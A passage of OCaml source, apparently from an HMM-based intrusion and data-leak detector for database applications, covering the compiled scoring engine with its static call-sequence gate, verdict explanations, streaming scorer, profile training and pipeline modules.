            ((intern_caller t caller * t.pair_stride) + code + 1)
            ()
      | None -> ())
    profile.Profile.known_pairs;
  t

let profile t = t.profile
let threshold t = t.threshold
let cache_hits t = t.cache.hits
let cache_misses t = t.cache.misses
let cache_len t = Key_tbl.length t.cache.tbl
let cache_capacity t = t.cache.capacity

let invalidate t = cache_clear t.cache

let set_static_pairs t pairs =
  match pairs with
  | None -> t.static_pairs <- None
  | Some l ->
      let tbl = Hashtbl.create ((2 * List.length l) + 1) in
      List.iter
        (fun (caller, sym) ->
          let sym = Symbol.observable sym in
          let sym = if t.use_labels then sym else Symbol.strip_label sym in
          Hashtbl.replace tbl (caller, sym) ())
        l;
      t.static_pairs <- Some tbl

let static_pairs_loaded t = t.static_pairs <> None

(* --- the call-sequence automaton gate ----------------------------------- *)

let set_static_dfa t auto =
  (match auto with
  | None ->
      t.static_dfa <- None;
      t.dfa_codes <- [||]
  | Some a ->
      if a.Analysis.Seqauto.use_labels <> t.use_labels then
        invalid_arg
          "Scoring.set_static_dfa: automaton label view differs from the profile's";
      t.static_dfa <- Some a;
      t.dfa_codes <-
        Array.map
          (fun sym ->
            match Analysis.Dfa.sym_code a.Analysis.Seqauto.dfa sym with
            | Some c -> c
            | None -> -1)
          t.profile.Profile.alphabet);
  (* memoized verdicts may predate the gate *)
  cache_clear t.cache

let static_dfa_loaded t = t.static_dfa <> None

let set_gate_enforce t on =
  if on <> t.gate_enforce then begin
    t.gate_enforce <- on;
    cache_clear t.cache
  end

let gate_enforced t = t.gate_enforce
let gate_checks t = t.gate_checks
let gate_rejections t = t.gate_rejections

(* Walk the window's profile codes through the DFA; [true] = the walk
   died, i.e. the static phase proved no execution emits this window. *)
let dfa_walk_dies t dfa codes ~len =
  let rec go state i =
    if i >= len then false
    else
      let dc = Array.unsafe_get t.dfa_codes (Array.unsafe_get codes i) in
      if dc < 0 then true
      else
        let state' = Analysis.Dfa.step dfa state dc in
        if state' < 0 then true else go state' (i + 1)
  in
  go (Analysis.Dfa.start dfa) 0

(* The enforce-mode gate, consulted by [classify] on the known-symbols
   path before the memo: rejected windows short-circuit to an anomalous
   verdict with no forward pass and never enter the memo. *)
let gate_rejects t codes ~len =
  match t.static_dfa with
  | Some a when t.gate_enforce ->
      t.gate_checks <- t.gate_checks + 1;
      let r = dfa_walk_dies t a.Analysis.Seqauto.dfa codes ~len in
      if r then t.gate_rejections <- t.gate_rejections + 1;
      r
  | Some _ | None -> false

(* Flag chosen directly (not via the threshold comparison) so a rejected
   window is anomalous whatever the threshold is. *)
let gate_verdict ~unknown_pair ~labeled_any =
  let flag =
    if labeled_any then Data_leak
    else if unknown_pair <> None then Out_of_context
    else Anomalous
  in
  { flag; score = neg_infinity; unknown_symbol = false; unknown_pair }

let set_threshold t th =
  if not (Float.equal th t.threshold) then begin
    t.threshold <- th;
    cache_clear t.cache
  end

let scratch_of tbl len =
  match Hashtbl.find tbl len with
  | a -> a
  | exception Not_found ->
      let a = Array.make len 0 in
      Hashtbl.replace tbl len a;
      a

(* Exactly the reference flag decision of [Detector.reference_classify]:
   [labeled_any] stands for [Window.contains_labeled_output]. *)
let make_verdict t ~score ~unknown_symbol ~unknown_pair ~labeled_any =
  let anomalous = score < t.threshold || unknown_symbol || unknown_pair <> None in
  let flag =
    if not anomalous then Normal
    else if labeled_any then Data_leak
    else if unknown_pair <> None then Out_of_context
    else Anomalous
  in
  { flag; score; unknown_symbol; unknown_pair }

let pair_known t ~caller ~cid ~code ~sym =
  if code >= 0 then Hashtbl.mem t.pair_codes ((cid * t.pair_stride) + code + 1)
  else Profile.known_pair t.profile caller sym

let classify t window =
  let w = Profile.prepare t.profile window in
  let obs = w.Window.obs and callers = w.Window.callers in
  let len = Array.length obs in
  if len = 0 then
    (* the reference fails to encode an empty window and scores it
       neg_infinity without a forward pass *)
    make_verdict t ~score:neg_infinity ~unknown_symbol:false ~unknown_pair:None
      ~labeled_any:false
  else begin
    let codes = scratch_of t.code_scratch len in
    let unknown = ref false and labeled_any = ref false in
    for i = 0 to len - 1 do
      let sym = obs.(i) in
      match Symbol.Table.find t.profile.Profile.obs_index sym with
      | code ->
          codes.(i) <- code;
          if t.labeled.(code) then labeled_any := true
      | exception Not_found ->
          codes.(i) <- -1;
          unknown := true;
          if Symbol.is_labeled sym then labeled_any := true
    done;
    let rec first_unknown_pair i =
      if i >= len then None
      else
        let caller = callers.(i) and sym = obs.(i) in
        let code = codes.(i) in
        let cid = if code >= 0 then intern_caller t caller else -1 in
        if pair_known t ~caller ~cid ~code ~sym then first_unknown_pair (i + 1)
        else Some (caller, sym)
    in
    let unknown_pair () = if t.track_callers then first_unknown_pair 0 else None in
    if !unknown then
      (* Symbols outside the alphabet: neg_infinity without a forward
         pass, and the verdict names the offending symbol, so these
         windows bypass the memo (codes collide on -1). *)
      make_verdict t ~score:neg_infinity ~unknown_symbol:true
        ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
    else if gate_rejects t codes ~len then
      gate_verdict ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
    else begin
      let key =
        if t.track_callers then begin
          let key = scratch_of t.key_scratch (2 * len) in
          for i = 0 to len - 1 do
            key.(2 * i) <- codes.(i);
            key.((2 * i) + 1) <- intern_caller t callers.(i)
          done;
          key
        end
        else codes
      in
      match cache_find t.cache key with
      | Some v -> v
      | None ->
          let score = Hmm.Compiled.per_symbol_score_sub t.compiled codes ~pos:0 ~len in
          let v =
            make_verdict t ~score ~unknown_symbol:false
              ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
          in
          cache_insert t.cache (Array.copy key) v;
          v
    end
  end

let monitor t trace =
  List.map
    (fun w -> (w, classify t w))
    (Window.of_trace ~window:t.profile.Profile.params.Profile.window trace)

(* --- verdict explainability -------------------------------------------- *)

type gate =
  | Unknown_symbol
  | Unknown_pair of (string * Symbol.t)
  | Statically_impossible_pair of (string * Symbol.t)
  | Statically_impossible_window
  | Below_threshold

type contribution = {
  position : int;
  symbol : Symbol.t;
  caller : string;
  surprisal : float;
}

type explanation = {
  gate : gate;
  verdict : verdict;
  exp_threshold : float;
  margin : float;
  top : contribution list;
}

let gate_to_string = function
  | Unknown_symbol -> "unknown-symbol"
  | Unknown_pair (caller, sym) ->
      Printf.sprintf "unknown-pair(%s from %s)" (Symbol.to_string sym) caller
  | Statically_impossible_pair (caller, sym) ->
      Printf.sprintf "statically-impossible-pair(%s from %s)" (Symbol.to_string sym)
        caller
  | Statically_impossible_window -> "statically-impossible-window"
  | Below_threshold -> "below-threshold"

let explain ?(top = 3) t window =
  let v = classify t window in
  if v.flag = Normal then None
  else begin
    let w = Profile.prepare t.profile window in
    let n = Array.length w.Window.obs in
    let surprisals =
      if n = 0 then [||]
      else
        match
          Window.encode ~index:(Symbol.Table.find_opt t.profile.Profile.obs_index) w
        with
        | Some codes -> Hmm.step_surprisals t.profile.Profile.model codes
        | None ->
            (* unknown symbols dominate: infinite surprisal, known
               positions fall back to zero so the unknowns rank first *)
            Array.init n (fun i ->
                if Symbol.Table.mem t.profile.Profile.obs_index w.Window.obs.(i)
                then 0.0
                else infinity)
    in
    let entries =
      List.init n (fun i ->
          {
            position = i;
            symbol = w.Window.obs.(i);
            caller = w.Window.callers.(i);
            surprisal = surprisals.(i);
          })
    in
    let sorted =
      List.stable_sort (fun a b -> compare b.surprisal a.surprisal) entries
    in
    (* Walk the prepared window through the call-sequence automaton:
       [true] = no execution of the program can emit this sequence.
       Counted into the gate counters — in explain-only deployments this
       is where the automaton is consulted at all. *)
    let window_impossible () =
      match t.static_dfa with
      | None -> false
      | Some a ->
          let dfa = a.Analysis.Seqauto.dfa in
          t.gate_checks <- t.gate_checks + 1;
          let n = Array.length w.Window.obs in
          let rec go state i =
            if i >= n then false
            else
              match Analysis.Dfa.sym_code dfa w.Window.obs.(i) with
              | None -> true
              | Some c ->
                  let state' = Analysis.Dfa.step dfa state c in
                  if state' < 0 then true else go state' (i + 1)
          in
          let r = go (Analysis.Dfa.start dfa) 0 in
          if r then t.gate_rejections <- t.gate_rejections + 1;
          r
    in
    let gate =
      if v.unknown_symbol then Unknown_symbol
      else
        match v.unknown_pair with
        | Some ((caller, sym) as p) -> (
            (* Same evidence, sharper charge: a pair the static phase
               proved the program cannot produce is tampering or a
               profile/program mismatch, not behavioural drift. *)
            match t.static_pairs with
            | Some tbl when not (Hashtbl.mem tbl (caller, sym)) ->
                Statically_impossible_pair p
            | _ -> Unknown_pair p)
        | None ->
            if window_impossible () then Statically_impossible_window
            else Below_threshold
    in
    let margin =
      (* distance past the gate that fired: how far below threshold the
         likelihood fell, or infinite for the categorical gates — so an
         explanation's margin is always non-negative *)
      match gate with
      | Below_threshold -> t.threshold -. v.score
      | Unknown_symbol | Unknown_pair _ | Statically_impossible_pair _
      | Statically_impossible_window ->
          infinity
    in
    Some
      {
        gate;
        verdict = v;
        exp_threshold = t.threshold;
        margin;
        top = List.filteri (fun i _ -> i < top) sorted;
      }
  end

let float_str f =
  if f = infinity then "inf"
  else if f = neg_infinity then "-inf"
  else Printf.sprintf "%.3f" f

let explanation_to_string e =
  Printf.sprintf "gate=%s score=%s threshold=%s margin=%s%s"
    (gate_to_string e.gate) (float_str e.verdict.score) (float_str e.exp_threshold)
    (float_str e.margin)
    (match e.top with
    | [] -> ""
    | top ->
        Printf.sprintf " top=[%s]"
          (String.concat "; "
             (List.map
                (fun c ->
                  Printf.sprintf "%s@%d from %s: %s" (Symbol.to_string c.symbol)
                    c.position c.caller (float_str c.surprisal))
                top)))

let extend t windows =
  let t' = create ~cache_capacity:t.cache.capacity (Profile.extend t.profile windows) in
  (* Extension keeps the program (and its label view) fixed, so the
     static facts stay valid for the new engine. *)
  t'.static_pairs <- t.static_pairs;
  (match t.static_dfa with
  | Some a ->
      set_static_dfa t' (Some a);
      set_gate_enforce t' t.gate_enforce
  | None -> ());
  t'

(* --- per-profile engine cache (domain-local) ---------------------------- *)

let of_profile_limit = 8

let dls_engines : (Profile.t * t) list ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref [])

let of_profile p =
  let engines = Domain.DLS.get dls_engines in
  match List.find_opt (fun (p', _) -> p' == p) !engines with
  | Some (_, eng) ->
      (match !engines with
      | (p', _) :: _ when p' == p -> ()  (* already MRU: skip the rebuild *)
      | _ -> engines := (p, eng) :: List.filter (fun (p', _) -> p' != p) !engines);
      eng
  | None ->
      let eng = create p in
      let rest =
        if List.length !engines >= of_profile_limit then
          List.filteri (fun i _ -> i < of_profile_limit - 1) !engines
        else !engines
      in
      engines := (p, eng) :: rest;
      eng

(* --- incremental per-session streams ------------------------------------ *)

module Stream = struct
  type engine = t

  type t = {
    eng : engine;
    window : int;
    s_codes : int array;  (* ring, capacity [window]; -1 = outside alphabet *)
    s_syms : Symbol.t array;  (* prepared observable symbols *)
    s_callers : string array;
    s_cids : int array;
    s_labeled : bool array;
    s_pair_known : bool array;
    mutable pushed : int;
    mutable is_flushed : bool;
  }

  let create ?window eng =
    let window =
      match window with
      | Some w -> w
      | None -> eng.profile.Profile.params.Profile.window
    in
    if window <= 0 then invalid_arg "Scoring.Stream.create: window must be positive";
    {
      eng;
      window;
      s_codes = Array.make window (-1);
      s_syms = Array.make window Symbol.Entry;
      s_callers = Array.make window "";
      s_cids = Array.make window (-1);
      s_labeled = Array.make window false;
      s_pair_known = Array.make window false;
      pushed = 0;
      is_flushed = false;
    }

  let engine st = st.eng
  let window st = st.window
  let events_seen st = st.pushed
  let flushed st = st.is_flushed

  (* Classify the window of the last [len] buffered events, oldest
     first, straight from the int-coded ring. *)
  let classify_last st len =
    let eng = st.eng in
    let start = st.pushed - len in
    let slot i = (start + i) mod st.window in
    let unknown = ref false and labeled_any = ref false in
    for i = 0 to len - 1 do
      let s = slot i in
      if st.s_codes.(s) < 0 then unknown := true;
      if st.s_labeled.(s) then labeled_any := true
    done;
    let rec first_unknown_pair i =
      if i >= len then None
      else
        let s = slot i in
        if st.s_pair_known.(s) then first_unknown_pair (i + 1)
        else Some (st.s_callers.(s), st.s_syms.(s))
    in
    let unknown_pair () = if eng.track_callers then first_unknown_pair 0 else None in
    if !unknown then
      make_verdict eng ~score:neg_infinity ~unknown_symbol:true
        ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
    else if
      (match eng.static_dfa with
      | Some _ when eng.gate_enforce ->
          let codes = scratch_of eng.code_scratch len in
          for i = 0 to len - 1 do
            codes.(i) <- st.s_codes.(slot i)
          done;
          gate_rejects eng codes ~len
      | Some _ | None -> false)
    then gate_verdict ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
    else begin
      let key =
        if eng.track_callers then begin
          let key = scratch_of eng.key_scratch (2 * len) in
          for i = 0 to len - 1 do
            let s = slot i in
            key.(2 * i) <- st.s_codes.(s);
            key.((2 * i) + 1) <- st.s_cids.(s)
          done;
          key
        end
        else begin
          let key = scratch_of eng.code_scratch len in
          for i = 0 to len - 1 do
            key.(i) <- st.s_codes.(slot i)
          done;
          key
        end
      in
      match cache_find eng.cache key with
      | Some v -> v
      | None ->
          let codes = scratch_of eng.code_scratch len in
          if eng.track_callers then
            for i = 0 to len - 1 do
              codes.(i) <- st.s_codes.(slot i)
            done;
          let score = Hmm.Compiled.per_symbol_score_sub eng.compiled codes ~pos:0 ~len in
          let v =
            make_verdict eng ~score ~unknown_symbol:false
              ~unknown_pair:(unknown_pair ()) ~labeled_any:!labeled_any
          in
          cache_insert eng.cache (Array.copy key) v;
          v
    end

  let push st (event : Runtime.Collector.event) =
    if st.is_flushed then Error "push after flush: scorer already flushed"
    else begin
      let eng = st.eng in
      let sym0 = Symbol.observable event.Runtime.Collector.symbol in
      let sym = if eng.use_labels then sym0 else Symbol.strip_label sym0 in
      let caller = event.Runtime.Collector.caller in
      let slot = st.pushed mod st.window in
      let code =
        match Symbol.Table.find eng.profile.Profile.obs_index sym with
        | c -> c
        | exception Not_found -> -1
      in
      let cid = if eng.track_callers && code >= 0 then intern_caller eng caller else -1 in
      st.s_codes.(slot) <- code;
      st.s_syms.(slot) <- sym;
      st.s_callers.(slot) <- caller;
      st.s_cids.(slot) <- cid;
      st.s_labeled.(slot) <- (if code >= 0 then eng.labeled.(code) else Symbol.is_labeled sym);
      st.s_pair_known.(slot) <-
        (if not eng.track_callers then true
         else pair_known eng ~caller ~cid ~code ~sym);
      st.pushed <- st.pushed + 1;
      if st.pushed >= st.window then Ok (Some (classify_last st st.window)) else Ok None
    end

  let flush st =
    if st.is_flushed then None
    else begin
      st.is_flushed <- true;
      if st.pushed > 0 && st.pushed < st.window then Some (classify_last st st.pushed)
      else None
    end

  (* Rebuild the window that [classify_last] most recently scored —
     either the full ring (steady state) or the short flush window —
     and run the batch explainer on it. The symbols in the ring are
     already prepared (observable, labels per [use_labels]), and
     [Profile.prepare] is idempotent on prepared windows. *)
  let explain_last ?top st =
    let len =
      if st.pushed >= st.window then st.window
      else if st.is_flushed then st.pushed
      else 0
    in
    if len = 0 then None
    else begin
      let start = st.pushed - len in
      let slot i = (start + i) mod st.window in
      let w =
        Window.
          {
            obs = Array.init len (fun i -> st.s_syms.(slot i));
            callers = Array.init len (fun i -> st.s_callers.(slot i));
          }
      in
      explain ?top st.eng w
    end
end

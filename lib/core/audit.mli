(** Complementary run-level auditing (the mitigations of Sec. VII).

    The HMM detector sees call {e sequences}; leakage channels it
    cannot see are covered here:

    - queries whose structure changed while the call sequence did not
      (query-signature profiles, {!Qsig});
    - queries that keep a trained structure but drift in their literals,
      widen their WHERE clause toward a tautology, or return far more
      rows than training ever saw (the constraint-aware query axis,
      {!Adprom_qsig});
    - targeted data staged into a file and then exfiltrated by a shell
      command (file labeling: the interpreter marks files that received
      tainted data, and any [system] command mentioning a labeled file
      is reported). *)

type finding =
  | Unknown_query_signature of string
      (** a query signature never seen in training *)
  | Query_anomaly of { sql : string; detail : string }
      (** a known-shape query violating its trained constraints:
          out-of-band literal, widened predicate, cardinality blowup *)
  | Tainted_file_command of { path : string; command : string }
      (** a [system] command touching a file that holds targeted data *)

val learn : Runtime.Interp.outcome list -> Qsig.t
(** Query-signature profile from the training runs' outcomes:
    prepare-time texts register their shape, executed queries train the
    slot constraints and cardinality bands. *)

val audit :
  ?policy:Adprom_qsig.Constraints.policy ->
  qsig:Qsig.t ->
  Runtime.Interp.outcome ->
  finding list
(** Findings for one monitored run (default policy [Strict]). *)

val finding_to_string : finding -> string

module Symbol = Analysis.Symbol
module Ctm = Analysis.Ctm
module Otrace = Adprom_obs.Trace

type init_kind =
  | Init_pctm
  | Init_random

type params = {
  window : int;
  max_states : int;
  cluster_fraction : float;
  pca_variance : float;
  max_rounds : int;
  patience : int;
  seed : int;
  threshold_strategy : Threshold.strategy;
  init : init_kind;
  use_labels : bool;
  track_callers : bool;
}

let default_params =
  {
    window = 15;
    max_states = 250;
    cluster_fraction = 0.3;
    pca_variance = 0.95;
    max_rounds = 30;
    patience = 2;
    seed = 42;
    threshold_strategy = Threshold.Min_margin 0.5;
    init = Init_pctm;
    use_labels = true;
    track_callers = true;
  }

type t = {
  params : params;
  alphabet : Symbol.t array;
  obs_index : int Symbol.Table.t;
  model : Hmm.t;
  threshold : float;
  clustering : Reduction.clustering;
  known_pairs : (string * Symbol.t, unit) Hashtbl.t;
  csds_history : float list;
  rounds_run : int;
}

let observable_alphabet pctm windows =
  let set = ref Symbol.Set.empty in
  List.iter (fun c -> set := Symbol.Set.add (Symbol.observable c) !set) (Ctm.calls pctm);
  List.iter
    (fun (w : Window.t) -> Array.iter (fun s -> set := Symbol.Set.add s !set) w.Window.obs)
    windows;
  Array.of_list (Symbol.Set.elements !set)

let encode_or_fail index (w : Window.t) =
  match Window.encode ~index w with
  | Some codes -> codes
  | None -> invalid_arg "Profile.train: training window outside alphabet"

(* Weighted mean per-symbol score over deduplicated windows. *)
let mean_score model weighted =
  let num = ref 0.0 and den = ref 0.0 in
  List.iter
    (fun (codes, w) ->
      let s = Hmm.per_symbol_score model codes in
      if Float.is_finite s then begin
        num := !num +. (w *. s);
        den := !den +. w
      end
      else begin
        (* An impossible window counts as a strong penalty rather than
           being silently dropped. *)
        num := !num +. (w *. -50.0);
        den := !den +. w
      end)
    weighted;
  if !den = 0.0 then neg_infinity else !num /. !den

let train ?(params = default_params) ~analysis windows =
  Otrace.with_span "profile.train"
    ~attrs:(fun () -> [ ("windows", string_of_int (List.length windows)) ])
  @@ fun () ->
  let pctm =
    if params.use_labels then analysis.Analysis.Analyzer.pctm
    else Ctm.map_symbols Symbol.strip_label analysis.Analysis.Analyzer.pctm
  in
  let windows =
    if params.use_labels then windows else List.map Window.strip_labels windows
  in
  if windows = [] then invalid_arg "Profile.train: no training windows";
  let alphabet = observable_alphabet pctm windows in
  if Array.length alphabet = 0 then invalid_arg "Profile.train: empty alphabet";
  let obs_index = Symbol.Table.create 64 in
  Array.iteri (fun i o -> Symbol.Table.replace obs_index o i) alphabet;
  let index s = Symbol.Table.find_opt obs_index s in
  let rng = Mlkit.Rng.create params.seed in
  let clustering =
    Otrace.with_span "profile.cluster"
      ~attrs:(fun () -> [ ("sites", string_of_int (List.length (Ctm.calls pctm))) ])
      (fun () ->
        Reduction.cluster ~rng ~max_states:params.max_states
          ~cluster_fraction:params.cluster_fraction ~pca_variance:params.pca_variance
          pctm)
  in
  let model0 =
    Otrace.with_span "profile.init_hmm" (fun () ->
        match params.init with
        | Init_pctm -> Reduction.init_hmm pctm clustering ~alphabet
        | Init_random ->
            let n = max 2 clustering.Reduction.states in
            Hmm.random ~rng ~n ~m:(Array.length alphabet))
  in
  (* Hold 1/5 aside as the convergence sub-dataset. *)
  let shuffled =
    let arr = Array.of_list windows in
    Mlkit.Rng.shuffle rng arr;
    Array.to_list arr
  in
  let csds, training =
    List.partition
      (fun (i, _) -> i mod 5 = 0)
      (List.mapi (fun i w -> (i, w)) shuffled)
    |> fun (a, b) -> (List.map snd a, List.map snd b)
  in
  let training = if training = [] then csds else training in
  let encode_weighted ws =
    List.map (fun (w, weight) -> (encode_or_fail index w, weight)) (Window.dedup ws)
  in
  let train_weighted = encode_weighted training in
  let csds_weighted = if csds = [] then train_weighted else encode_weighted csds in
  (* Baum-Welch rounds with CSDS-based early stopping; keep the best
     model seen (the paper stops on no improvement). *)
  let best_model = ref model0 in
  let best_score = ref (mean_score model0 csds_weighted) in
  let history = ref [ !best_score ] in
  let rounds = ref 0 in
  let no_improvement = ref 0 in
  let model = ref model0 in
  while !rounds < params.max_rounds && !no_improvement < params.patience do
    incr rounds;
    let csds_trace = ref nan in
    let next =
      (* one span per Baum-Welch round: the CSDS log-likelihood
         trajectory, readable straight off the trace dump *)
      Otrace.with_span "profile.bw_round"
        ~attrs:(fun () ->
          [
            ("round", string_of_int !rounds);
            ("csds_score", Printf.sprintf "%.6f" !csds_trace);
          ])
        (fun () ->
          let next, _ = Hmm.baum_welch_step !model train_weighted in
          csds_trace := mean_score next csds_weighted;
          next)
    in
    model := next;
    let s = !csds_trace in
    history := s :: !history;
    if s > !best_score +. 1e-6 then begin
      best_score := s;
      best_model := next;
      no_improvement := 0
    end
    else incr no_improvement
  done;
  let final_model = !best_model in
  let threshold =
    Otrace.with_span "profile.threshold" (fun () ->
        let all_scores =
          List.map
            (fun (codes, _) -> Hmm.per_symbol_score final_model codes)
            (train_weighted @ csds_weighted)
        in
        Threshold.select params.threshold_strategy (Array.of_list all_scores))
  in
  let known_pairs = Hashtbl.create 256 in
  List.iter
    (fun w -> List.iter (fun p -> Hashtbl.replace known_pairs p ()) (Window.pairs w))
    windows;
  {
    params;
    alphabet;
    obs_index;
    model = final_model;
    threshold;
    clustering;
    known_pairs;
    csds_history = List.rev !history;
    rounds_run = !rounds;
  }

let prepare t w = if t.params.use_labels then w else Window.strip_labels w

let extend t windows =
  if windows = [] then invalid_arg "Profile.extend: no windows";
  Otrace.with_span "profile.extend"
    ~attrs:(fun () -> [ ("windows", string_of_int (List.length windows)) ])
  @@ fun () ->
  let windows =
    if t.params.use_labels then windows else List.map Window.strip_labels windows
  in
  let index s = Symbol.Table.find_opt t.obs_index s in
  (* Windows with unseen symbols are not legitimate-drift material. *)
  let usable = List.filter (fun w -> Window.encode ~index w <> None) windows in
  if usable = [] then t
  else begin
    let weighted =
      List.map
        (fun (w, weight) ->
          match Window.encode ~index w with
          | Some codes -> (codes, weight)
          | None -> assert false)
        (Window.dedup usable)
    in
    let rounds = max 1 (t.params.max_rounds / 4) in
    let model, _ = Hmm.fit ~max_iterations:rounds t.model weighted in
    let new_scores =
      List.map (fun (codes, _) -> Hmm.per_symbol_score model codes) weighted
    in
    (* The threshold may only move down here: new legitimate behaviour
       widens the normal region, it never shrinks it. *)
    let candidate =
      Threshold.select t.params.threshold_strategy (Array.of_list new_scores)
    in
    let threshold = Float.min t.threshold candidate in
    let known_pairs = Hashtbl.copy t.known_pairs in
    List.iter
      (fun w -> List.iter (fun p -> Hashtbl.replace known_pairs p ()) (Window.pairs w))
      usable;
    { t with model; threshold; known_pairs }
  end

let score t w =
  let w = prepare t w in
  match Window.encode ~index:(Symbol.Table.find_opt t.obs_index) w with
  | Some codes -> Hmm.per_symbol_score t.model codes
  | None -> neg_infinity

let known_pair t caller sym = Hashtbl.mem t.known_pairs (caller, sym)

let size_estimate t =
  let n = t.model.Hmm.n and m = t.model.Hmm.m in
  (* 8 bytes per float for A, B, pi, plus symbol strings. *)
  (8 * ((n * n) + (n * m) + n))
  + Array.fold_left (fun acc s -> acc + String.length (Symbol.to_string s) + 8) 0 t.alphabet

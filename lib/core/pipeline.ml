type app = {
  name : string;
  source : string;
  dbms : string;
  setup_db : Sqldb.Engine.t -> unit;
  test_cases : Runtime.Testcase.t list;
}

type dataset = {
  app : app;
  analysis : Analysis.Analyzer.t;
  traces : (Runtime.Testcase.t * Runtime.Collector.trace) list;
  windows : Window.t list;
}

module Otrace = Adprom_obs.Trace

let analyze_app app =
  Otrace.with_span "pipeline.analyze_app"
    ~attrs:(fun () -> [ ("app", app.name) ])
    (fun () ->
      let program =
        Otrace.with_span "applang.parse" (fun () ->
            Applang.Parser.parse_program app.source)
      in
      Analysis.Analyzer.analyze program)

let fresh_engine app =
  let engine = Sqldb.Engine.create () in
  app.setup_db engine;
  engine

let run_case ?(patches = []) ?query_rewriter ?analysis app tc =
  let analysis = match analysis with Some a -> a | None -> analyze_app app in
  Runtime.Interp.collect_trace ~patches ?query_rewriter ~analysis
    ~engine:(fresh_engine app) tc

let collect ?(window = 15) app =
  Otrace.with_span "pipeline.collect"
    ~attrs:(fun () ->
      [ ("app", app.name); ("cases", string_of_int (List.length app.test_cases)) ])
  @@ fun () ->
  let analysis = analyze_app app in
  let traces =
    Otrace.with_span "pipeline.run_cases" (fun () ->
        List.map (fun tc -> (tc, fst (run_case ~analysis app tc))) app.test_cases)
  in
  let windows =
    Otrace.with_span "pipeline.windows" (fun () ->
        List.concat_map (fun (_, trace) -> Window.of_trace ~window trace) traces)
  in
  { app; analysis; traces; windows }

let adprom_params = Profile.default_params

let cmarkov_params =
  { Profile.default_params with Profile.use_labels = false; track_callers = false }

let rand_hmm_params = { Profile.default_params with Profile.init = Profile.Init_random }

let train ?(params = adprom_params) dataset =
  let windows =
    if params.Profile.window = 15 then dataset.windows
    else
      List.concat_map
        (fun (_, trace) -> Window.of_trace ~window:params.Profile.window trace)
        dataset.traces
  in
  Profile.train ~params ~analysis:dataset.analysis windows

let train_engine ?params ?cache_capacity dataset =
  Scoring.create ?cache_capacity (train ?params dataset)

let collect_outcomes ?analysis app =
  let analysis = match analysis with Some a -> a | None -> analyze_app app in
  List.map (fun tc -> snd (run_case ~analysis app tc)) app.test_cases

let train_qsig ?analysis app = Audit.learn (collect_outcomes ?analysis app)

let train_qsig_engine ?policy ?analysis app = Qsig.engine ?policy (train_qsig ?analysis app)

(** The compiled scoring engine — the detection loop's hot path
    (Sec. IV-D), built once per profile.

    [create] compiles a profile for repeated scoring: observation
    symbols are interned to dense int codes, the HMM tables are
    flattened into preallocated float arrays ({!Hmm.Compiled}), callers
    are interned and the (caller, call) pairs become an int-keyed set,
    and verdicts are memoized in a bounded LRU keyed by the encoded
    window — a hit skips the O(window·n²) forward pass entirely. The
    forward pass itself reuses scratch buffers and allocates nothing.

    Equivalence guarantee: for every profile and window, {!classify}
    returns exactly {!Detector.reference_classify} — same flag,
    bit-for-bit same score, same [unknown_symbol] and [unknown_pair]
    (property-tested in [test/test_scoring.ml]).

    An engine is {b not} thread-safe (it owns scratch buffers and the
    memo): use one engine per domain. {!of_profile} hands out
    domain-local engines keyed by physical profile identity. *)

type flag =
  | Normal
  | Anomalous
  | Data_leak
  | Out_of_context

type verdict = {
  flag : flag;
  score : float;
  unknown_symbol : bool;  (** the window used a call never seen in training *)
  unknown_pair : (string * Analysis.Symbol.t) option;
      (** first out-of-context (caller, call) pair, if any *)
}

type t

val default_cache_capacity : int
(** 8192 memoized verdicts. *)

val create : ?cache_capacity:int -> Profile.t -> t
(** Compile the profile. [cache_capacity 0] disables the verdict memo
    (every window pays the forward pass).
    @raise Invalid_argument on a negative capacity. *)

val of_profile : Profile.t -> t
(** The domain-local engine of this profile (physical identity): the
    engine behind the thin [Detector.classify]/[Detector.monitor]
    wrappers. At most a handful of engines are retained per domain,
    most-recently-used first. *)

val profile : t -> Profile.t

val threshold : t -> float
(** The detection threshold in force — the profile's, unless
    {!set_threshold} overrode it. *)

val set_threshold : t -> float -> unit
(** Override the detection threshold (adaptive monitoring); flushes the
    verdict memo when the value actually changes. *)

val set_static_pairs : t -> (string * Analysis.Symbol.t) list option -> unit
(** Load ([Some], e.g. [Analysis.Vet.facts] pairs) or clear ([None])
    the statically possible (caller, call) pairs. Pairs are projected
    through the profile's label view on the way in. Explanation gating
    only: {!explain} refines {!Unknown_pair} into
    {!Statically_impossible_pair} for pairs outside the set, while
    {!classify} verdicts stay bit-for-bit unchanged (no memo flush). *)

val static_pairs_loaded : t -> bool

(** {1 The call-sequence automaton gate}

    {!set_static_dfa} loads an {!Analysis.Seqauto} automaton whose
    language over-approximates the library-call sequences the program
    can emit. Loaded but not enforced ("explain" mode), it only refines
    {!explain} output ({!Statically_impossible_window}) — {!classify}
    verdicts stay bit-for-bit identical to an engine without it. With
    {!set_gate_enforce}[ true], {!classify} walks the window through the
    DFA {e before} the memo and the forward pass: a rejected window —
    one the static phase proved no execution can produce — short-circuits
    to an anomalous verdict ([score = neg_infinity], flag by the usual
    label/pair evidence) without paying the O(window·n²) pass, and never
    enters the memo. *)

val set_static_dfa : t -> Analysis.Seqauto.t option -> unit
(** Load ([Some]) or clear ([None]) the automaton; flushes the memo.
    @raise Invalid_argument when the automaton was built under a
    different label view than the profile's. *)

val static_dfa_loaded : t -> bool

val set_gate_enforce : t -> bool -> unit
(** Toggle enforce mode (default off); flushes the memo on change.
    Without a loaded automaton, enforce mode gates nothing. *)

val gate_enforced : t -> bool

val gate_checks : t -> int
(** DFA walks performed — enforce-mode [classify] gates plus
    explain-mode window checks. *)

val gate_rejections : t -> int
(** Walks that died: windows proven statically impossible. *)

val classify : t -> Window.t -> verdict
(** Score and flag one window; identical to
    [Detector.reference_classify (profile t)] (with the engine's
    threshold). Windows containing symbols outside the alphabet score
    [neg_infinity] without a forward pass and bypass the memo. *)

val monitor : t -> Runtime.Collector.trace -> (Window.t * verdict) list
(** Slide the profile's window over a trace and classify each position
    — the batch detection loop, memoized. *)

(** {1 Verdict explainability}

    Why was a window flagged? {!explain} names the gate that fired and
    ranks the surprising steps, so an incident can be triaged without
    re-deriving the model's view of the window. Computed only on
    anomalous verdicts — the hot path never pays for it. *)

type gate =
  | Unknown_symbol  (** a call outside the training alphabet *)
  | Unknown_pair of (string * Analysis.Symbol.t)
